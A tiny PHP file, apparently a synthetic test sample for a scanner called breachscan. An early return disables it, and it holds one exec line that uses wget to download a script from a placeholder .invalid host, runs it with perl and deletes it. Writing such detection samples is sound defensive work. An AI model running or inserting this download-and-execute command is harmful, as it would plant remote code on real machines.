<?php
// synthetic test sample for breachscan: shell command downloading a script and running it
// with perl. Host is .invalid; disabled.
return;
exec('cd /tmp; wget http://bot.example.invalid/r.txt; perl r.txt; rm -f r.txt');
